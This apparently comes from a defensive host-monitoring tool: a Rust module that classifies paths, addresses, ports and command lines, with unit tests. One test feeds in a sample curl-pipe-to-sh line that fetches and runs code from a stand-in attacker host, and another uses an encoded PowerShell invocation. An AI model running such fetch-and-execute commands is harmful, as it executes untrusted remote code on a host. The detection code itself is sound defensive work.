//! Classes of paths, names, addresses and command lines: many values, few shapes.

/// A name without what changes from one time to the next: runs of digits become `#`, long runs of
/// hexadecimal digits `~`, capitals go.
pub fn word(name: &str) -> String {
    let mut out = String::with_capacity(name.len().min(64));
    let mut rest = name.trim();
    while let Some(first) = rest.chars().next() {
        let run = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
        if run == 0 {
            out.push(first);
            rest = rest.get(first.len_utf8()..).unwrap_or_default();
        } else {
            let (head, tail) = rest.split_at_checked(run).unwrap_or((rest, ""));
            push_run(&mut out, head);
            rest = tail;
        }
        if out.len() > 96 {
            break;
        }
    }
    out
}

fn push_run(out: &mut String, run: &str) {
    let digits = run.bytes().filter(u8::is_ascii_digit).count();
    if run.len() >= 8 && digits > 0 && run.bytes().all(|b| b.is_ascii_hexdigit()) {
        out.push('~');
        return;
    }
    let mut in_digits = false;
    for c in run.chars() {
        if !c.is_ascii_digit() {
            out.push(c.to_ascii_lowercase());
        } else if !in_digits || digits <= 2 {
            // One or two digits are often a part of the name (`python3`, `cp437`).
            out.push(if digits <= 2 { c } else { '#' });
        }
        in_digits = c.is_ascii_digit();
    }
}

/// The last part of a path of any system.
pub fn file_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// What follows the last dot of a file's name, if it is short.
pub fn extension(path: &str) -> &str {
    let name = file_name(path);
    let found =
        name.rsplit_once('.').map_or("", |(stem, end)| if stem.is_empty() { "" } else { end });
    if found.len() <= 6 { found } else { "" }
}

/// Where a path lies, in a word. The first that fits.
const PLACES: [(&str, &str); 30] = [
    ("/tmp/", "temp"),
    ("/var/tmp/", "temp"),
    ("/dev/shm/", "temp"),
    ("/run/user/", "temp"),
    ("\\appdata\\local\\temp\\", "temp"),
    ("\\windows\\temp\\", "temp"),
    ("\\users\\public\\", "shared"),
    ("\\programdata\\", "shared"),
    ("\\$recycle.bin\\", "temp"),
    ("\\start menu\\programs\\startup\\", "autostart"),
    ("/etc/cron", "autostart"),
    ("/etc/systemd/", "autostart"),
    ("\\windows\\tasks\\", "autostart"),
    ("\\windows\\system32\\tasks\\", "autostart"),
    ("/.ssh/", "keys"),
    ("\\windows\\system32\\", "system"),
    ("\\windows\\syswow64\\", "system"),
    ("\\windows\\", "windows"),
    ("\\program files", "programs"),
    ("\\appdata\\", "appdata"),
    ("\\users\\", "home"),
    ("/usr/local/", "local"),
    ("/usr/", "system"),
    ("/bin/", "system"),
    ("/sbin/", "system"),
    ("/lib", "system"),
    ("/etc/", "etc"),
    ("/opt/", "programs"),
    ("/home/", "home"),
    ("/var/", "var"),
];

/// The class of the place of a path.
pub fn place(path: &str) -> &'static str {
    let lower = path.to_ascii_lowercase();
    if lower.starts_with("\\\\") && !lower.starts_with("\\\\?\\") {
        return "network";
    }
    let found = PLACES.iter().find(|(start, _)| {
        if start.starts_with('/') && !start.starts_with("/.") {
            lower.starts_with(start)
        } else {
            lower.contains(start)
        }
    });
    found.map_or(if lower.contains(['/', '\\']) { "other" } else { "bare" }, |(_, place)| place)
}

/// A program, by its name and the class of its place.
pub fn program(path: &str) -> String {
    format!("{} in {}", word(file_name(path)), place(path))
}

/// The scope of an address.
pub fn scope(address: &str) -> &'static str {
    use std::net::IpAddr;
    match address.parse::<IpAddr>() {
        Ok(ip) if ip.is_loopback() || ip.is_unspecified() => "this host",
        Ok(ip) if ip.is_multicast() => "many",
        Ok(IpAddr::V4(ip)) if ip.is_private() || ip.is_link_local() => "inside",
        Ok(IpAddr::V6(ip)) if ip.is_unique_local() || ip.is_unicast_link_local() => "inside",
        Ok(_) => "outside",
        Err(_) if address.is_empty() => "nowhere",
        Err(_) => "named",
    }
}

/// An address without its last part: machines of one network are one destination.
pub fn network(address: &str) -> String {
    match address.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(ip)) => {
            let [a, b, c, _] = ip.octets();
            format!("{a}.{b}.{c}.0/24")
        }
        Ok(std::net::IpAddr::V6(ip)) => {
            let [a, b, c, ..] = ip.segments();
            format!("{a:x}:{b:x}:{c:x}::/48")
        }
        Err(_) => domain(address),
    }
}

/// The last two labels of a name, three where the last but one is short (`co.uk`).
pub fn domain(name: &str) -> String {
    let labels: Vec<&str> = name.trim_end_matches('.').rsplit('.').take(3).collect();
    let take = if labels.get(1).is_some_and(|label| label.len() <= 3) { 3 } else { 2 };
    let mut kept: Vec<&str> = labels.into_iter().take(take).collect();
    kept.reverse();
    kept.join(".").to_ascii_lowercase()
}

/// A port by what it is for: the well-known ones themselves, the others as a class.
pub fn port(number: i64) -> String {
    const KNOWN: [i64; 24] = [
        20, 21, 22, 23, 25, 53, 67, 80, 88, 110, 123, 135, 139, 143, 161, 389, 443, 445, 465, 514,
        587, 636, 993, 995,
    ];
    const SERVERS: [i64; 14] = [
        1_433, 1_521, 2_049, 3_306, 3_389, 4_444, 5_432, 5_900, 5_985, 5_986, 6_379, 8_080, 8_443,
        9_200,
    ];
    match number {
        n if KNOWN.contains(&n) || SERVERS.contains(&n) => n.to_string(),
        n if n < 1_024 => "low".into(),
        n if n < 32_768 => "registered".into(),
        _ => "high".into(),
    }
}

/// The shape of a command line: the names of its first options, and what sort of things it holds.
/// No value of an option stays.
pub fn command(line: &str) -> String {
    let mut options: Vec<String> = line
        .split_whitespace()
        .skip(1)
        .filter(|part| part.starts_with('-') || (part.starts_with('/') && part.len() <= 12))
        .filter(|part| !part.trim_start_matches(['-', '/']).contains(['/', '\\']))
        .map(|part| word(part.split(['=', ':']).next().unwrap_or(part)))
        .take(5)
        .collect();
    options.sort_unstable();
    options.dedup();
    let lower = line.to_ascii_lowercase();
    let holds = [
        ("url", lower.contains("://")),
        ("pipe", line.contains('|') || line.contains("&&") || line.contains(';')),
        ("redirect", line.contains('>')),
        ("long", line.len() > 400),
        ("encoded", longest_run(line) >= 60),
        ("temp", lower.contains("/tmp/") || lower.contains("\\temp\\")),
        ("unc", line.contains("\\\\")),
    ];
    options.extend(holds.iter().filter(|(_, is)| *is).map(|(name, _)| format!("+{name}")));
    options.join(" ")
}

/// The longest run of characters of base64.
fn longest_run(line: &str) -> usize {
    let is_in = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '=');
    line.split(|c| !is_in(c)).map(str::len).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_lose_what_changes() {
        assert_eq!(word("Setup-4711.tmp"), "setup-#.tmp");
        assert_eq!(word("a3f9c2d41b.exe"), "~.exe");
        assert_eq!(word("python3"), "python3");
        assert_eq!(word("feedback"), "feedback", "hexadecimal by its letters, but a word");
    }

    #[test]
    fn places_are_told_on_every_system() {
        assert_eq!(place("/usr/bin/curl"), "system");
        assert_eq!(place("C:\\Windows\\System32\\cmd.exe"), "system");
        assert_eq!(place("C:\\Users\\Ann\\AppData\\Local\\Temp\\x.exe"), "temp");
        assert_eq!(place("/home/ann/.ssh/authorized_keys"), "keys");
        assert_eq!(place("\\\\files\\share\\x"), "network");
        assert_eq!(place("curl"), "bare");
        assert_eq!(program("/tmp/a3f9c2d41b"), "~ in temp");
    }

    #[test]
    fn destinations_have_a_scope_and_a_network() {
        assert_eq!(scope("10.1.2.3"), "inside");
        assert_eq!(scope("203.0.113.9"), "outside");
        assert_eq!(scope("fe80::1"), "inside");
        assert_eq!(network("203.0.113.9"), "203.0.113.0/24");
        assert_eq!(network("2001:db8:1:2::3"), "2001:db8:1::/48");
        assert_eq!(domain("a.b.Example.co.uk."), "example.co.uk");
        assert_eq!(domain("x.yard.example"), "yard.example");
    }

    #[test]
    fn a_command_line_keeps_its_options_and_none_of_its_values() {
        let line = "curl -s -o /tmp/secret https://evil.example/x | sh";
        assert_eq!(command(line), "-o -s +url +pipe +temp");
        assert_eq!(command("ls"), "");
        let encoded = format!("powershell -enc {}", "QUJD".repeat(30));
        assert!(command(&encoded).contains("+encoded"));
    }
}
